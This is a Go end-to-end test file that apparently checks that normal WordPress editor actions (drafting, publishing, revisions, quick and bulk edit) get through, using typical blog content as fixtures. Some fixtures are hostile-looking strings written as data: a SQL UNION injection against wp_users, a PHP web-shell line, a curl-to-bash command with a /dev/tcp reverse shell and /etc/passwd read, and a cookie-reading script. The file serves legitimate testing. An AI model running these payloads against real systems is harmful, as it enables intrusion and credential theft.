package e2e

import (
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
)

func paragraph(text string) string {
	return "<!-- wp:paragraph -->\n<p>" + text + "</p>\n<!-- /wp:paragraph -->\n\n"
}

// pieces are contents that authors of such blogs write every day.
var pieces = []struct{ name, content string }{
	{"plain text", paragraph("We took the train from Astana & arrived at dawn.")},
	{"Russian text", paragraph("Мы приехали поездом; «Горы» уже были освещены — это стоило бессонной ночи. Употребляют наркотики? Нет.")},
	{"Kazakh text", paragraph("Таңертең тау шыңдары жарқырап тұрды: ә, ғ, қ, ң, ө, ұ, ү, һ, і.")},
	{"SQL in a code block", "<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>SELECT id, name FROM users WHERE 1=1 UNION ALL SELECT user_login, user_pass FROM wp_users; -- '</code></pre>\n<!-- /wp:code -->"},
	{"PHP in a code block", "<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>&lt;?php system($_GET['cmd']); eval(base64_decode($x)); ?&gt;</code></pre>\n<!-- /wp:code -->"},
	{"shell in a code block", "<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>cat /etc/passwd | grep root; curl http://example.test/x.sh | bash -i &gt;&amp; /dev/tcp/127.0.0.1/1</code></pre>\n<!-- /wp:code -->"},
	{"JavaScript in an HTML block", "<!-- wp:html -->\n<script>document.getElementById('x').onclick=function(){alert(document.cookie)}</script>\n<!-- /wp:html -->"},
	{"an iframe", "<!-- wp:html -->\n<iframe src=\"https://www.youtube.com/embed/abc?rel=0\" width=\"560\" onload=\"resize(this)\"></iframe>\n<!-- /wp:html -->"},
	{"an embed", "<!-- wp:embed {\"url\":\"https://www.youtube.com/watch?v=abc\",\"type\":\"video\",\"providerNameSlug\":\"youtube\",\"responsive\":true,\"className\":\"wp-embed-aspect-16-9\"} -->\n<figure class=\"wp-block-embed\"><div class=\"wp-block-embed__wrapper\">\nhttps://www.youtube.com/watch?v=abc\n</div></figure>\n<!-- /wp:embed -->"},
	{"a table", "<!-- wp:table -->\n<figure class=\"wp-block-table\"><table><tbody><tr><td>1</td><td>a=b</td></tr></tbody></table></figure>\n<!-- /wp:table -->"},
	{"a gallery and styles", "<!-- wp:group {\"style\":{\"color\":{\"background\":\"#fff\"},\"spacing\":{\"padding\":{\"top\":\"1em\"}}},\"layout\":{\"type\":\"constrained\"}} -->\n<div class=\"wp-block-group has-background\" style=\"background-color:#fff;padding-top:1em\"></div>\n<!-- /wp:group -->"},
	{"shortcodes", paragraph(`[gallery ids="1,2,3"] [contact-form-7 id="12" title="Contact"]`)},
	{"60 kB", paragraph(strings.Repeat("The steppe has no corners; the road goes on, and we've all day. ", 900))},
	{"300 kB", strings.Repeat(paragraph(strings.Repeat("Дорога идёт дальше, и у нас весь день. ", 40)), 100)},
}

// postID creates a draft through the REST API as the editor does.
func postID(t *testing.T, p *person, fields map[string]any) int {
	t.Helper()
	a := p.rest(t, "POST", "/wp/v2/posts?_locale=user", fields)
	a.want(t, 201, `"id":`)
	var post struct{ ID int }
	if err := json.Unmarshal([]byte(a.body), &post); err != nil {
		t.Fatalf("%s: %v", a.what, err)
	}
	return post.ID
}

// writing holds what authors do; the pieces come first, each written, saved
// again and published as the block editor does.
var writing = slices.Concat([]action{
	{"open the block editor", func(t *testing.T, p *people) {
		p.editor.get(t, "/wp-admin/post-new.php").want(t, 200, "block-editor")
	}},
}, writePieces(), []action{
	{"preload of the editor", func(t *testing.T, p *people) {
		for _, route := range []string{"/wp/v2/types?context=view", "/wp/v2/taxonomies?context=edit", "/wp/v2/users/me?context=edit", "/wp/v2/block-patterns/patterns", "/wp/v2/themes?status=active", "/wp/v2/blocks?per_page=100&context=edit&_locale=user"} {
			p.editor.rest(t, "GET", route, nil).want(t, 200, "")
		}
	}},
	{"schedule", func(t *testing.T, p *people) {
		postID(t, p.editor, map[string]any{"title": "Tomorrow", "content": paragraph("Soon."), "status": "future", "date": "2030-01-01T10:00:00"})
	}},
	{"password-protected post", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Secret", "content": paragraph("Hidden."), "status": "publish", "password": `p'ss" OR 1=1 --`})
		p.visitor.post(t, "/wp-login.php?action=postpass", url.Values{"post_password": {"guess"}, "Submit": {"Enter"}}).want(t, 302, "")
		p.visitor.get(t, fmt.Sprintf("/?p=%d", id))
	}},
	{"autosave", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Autosaved", "content": pieces[6].content, "status": "draft"})
		p.editor.rest(t, "POST", fmt.Sprintf("/wp/v2/posts/%d/autosaves?_locale=user", id), map[string]any{"id": id, "title": "Autosaved", "content": pieces[6].content + pieces[3].content}).want(t, 200, "")
	}},
	{"revisions", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Revised", "content": pieces[3].content, "status": "draft"})
		p.editor.rest(t, "PUT", fmt.Sprintf("/wp/v2/posts/%d?_locale=user", id), map[string]any{"content": pieces[5].content}).want(t, 200, "")
		p.editor.rest(t, "GET", fmt.Sprintf("/wp/v2/posts/%d/revisions?per_page=100&context=edit", id), nil).want(t, 200, "passwd")
	}},
	{"preview", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Preview me", "content": pieces[6].content, "status": "draft"})
		p.editor.get(t, fmt.Sprintf("/?p=%d&preview=true", id)).want(t, 200, "Preview me")
	}},
	{"reusable block", func(t *testing.T, p *people) {
		p.editor.rest(t, "POST", "/wp/v2/blocks?_locale=user", map[string]any{"title": "Note", "content": pieces[7].content, "status": "publish"}).want(t, 201, "")
	}},
	{"tag from the sidebar", func(t *testing.T, p *people) {
		p.editor.rest(t, "POST", "/wp/v2/tags?_locale=user", map[string]any{"name": "sélect & union " + p.day}).want(t, 201, "")
	}},
	{"category from the sidebar", func(t *testing.T, p *people) {
		p.editor.rest(t, "POST", "/wp/v2/categories?_locale=user", map[string]any{"name": "Қазақша " + p.day}).want(t, 201, "")
	}},
	{"trash and restore", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Trash me", "status": "draft"})
		p.editor.rest(t, "DELETE", fmt.Sprintf("/wp/v2/posts/%d?_locale=user", id), nil).want(t, 200, "trash")
	}},
	{"delete for ever", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Gone", "status": "draft"})
		p.editor.rest(t, "DELETE", fmt.Sprintf("/wp/v2/posts/%d?force=true", id), nil).want(t, 200, `"deleted":true`)
	}},
	{"classic editor's save", func(t *testing.T, p *people) {
		id := postID(t, p.editor, map[string]any{"title": "Classic", "status": "draft"})
		form := p.editor.get(t, fmt.Sprintf("/wp-admin/post.php?post=%d&action=edit&classic-editor=1", id))
		p.editor.post(t, "/wp-admin/post.php", url.Values{
			"_wpnonce": {form.hidden(t, "_wpnonce")}, "_wp_http_referer": {fmt.Sprintf("/wp-admin/post.php?post=%d&action=edit", id)},
			"user_ID": {"2"}, "action": {"editpost"}, "originalaction": {"editpost"}, "post_author": {"2"}, "post_type": {"post"},
			"post_ID": {fmt.Sprint(id)}, "post_title": {"Classic <em>title</em>"}, "content": {pieces[6].content + pieces[3].content + `<p onclick="x()" style="color:red">a</p>`},
			"post_status": {"draft"}, "save": {"Save Draft"}, "excerpt": {"SELECT one; <b>bold</b>"},
		})
	}},
	{"quick edit", func(t *testing.T, p *people) {
		list := p.editor.get(t, "/wp-admin/edit.php").want(t, 200, "wp-list-table")
		p.editor.post(t, "/wp-admin/admin-ajax.php", url.Values{
			"post_title": {"Joining two tables & more"}, "post_name": {"joining-two-tables"}, "mm": {"11"}, "jj": {"01"}, "aa": {"2026"}, "hh": {"10"}, "mn": {"00"}, "ss": {"00"},
			"post_author": {"1"}, "tax_input[post_tag]": {"sql, mysql, c++"}, "comment_status": {"open"}, "_status": {"publish"},
			"_inline_edit": {list.hidden(t, "_inline_edit")}, "action": {"inline-save"}, "post_type": {"post"}, "post_ID": {"4"}, "edit_date": {"true"}, "post_view": {"list"}, "screen": {"edit-post"},
		}).want(t, 200, "")
	}},
	{"bulk edit", func(t *testing.T, p *people) {
		list := p.editor.get(t, "/wp-admin/edit.php?post_status=draft")
		p.editor.get(t, "/wp-admin/edit.php?"+url.Values{"s": {""}, "_wpnonce": {list.hidden(t, "_wpnonce")}, "post_status": {"draft"}, "post_type": {"post"}, "action": {"edit"}, "m": {"0"}, "cat": {"0"},
			"post_category[]": {"0", "1"}, "tax_input[post_tag]": {"bulk"}, "bulk_edit": {"Update"}, "post_view": {"list"}, "screen": {"edit-post"}}.Encode())
	}},
	{"search among posts", func(t *testing.T, p *people) {
		p.editor.get(t, "/wp-admin/edit.php?s="+url.QueryEscape("select * from posts where 'a'")+"&post_status=all&post_type=post").want(t, 200, "")
	}},
	{"link suggestions", func(t *testing.T, p *people) {
		p.editor.rest(t, "GET", "/wp/v2/search?search=joining&per_page=20&type=post&_locale=user", nil).want(t, 200, "Joining")
	}},
	{"block renderer", func(t *testing.T, p *people) {
		p.editor.rest(t, "GET", "/wp/v2/block-renderer/core/latest-posts?context=edit&attributes[postsToShow]=5&attributes[displayPostContent]=false&_locale=user", nil).want(t, 200, "rendered")
	}},
	{"page", func(t *testing.T, p *people) {
		p.editor.rest(t, "POST", "/wp/v2/pages?_locale=user", map[string]any{"title": "About us", "content": pieces[10].content + pieces[7].content, "status": "publish", "template": ""}).want(t, 201, "")
	}},
})

func writePieces() []action {
	var actions []action
	for _, piece := range pieces {
		actions = append(actions, action{"write " + piece.name, func(t *testing.T, p *people) {
			id := postID(t, p.editor, map[string]any{"title": "About " + piece.name, "content": piece.content, "status": "draft"})
			p.editor.rest(t, "PUT", fmt.Sprintf("/wp/v2/posts/%d?_locale=user", id), map[string]any{
				"id": id, "content": piece.content + paragraph("P.S."), "status": "publish", "meta": map[string]any{},
			}).want(t, 200, `"publish"`)
		}})
	}
	return actions
}
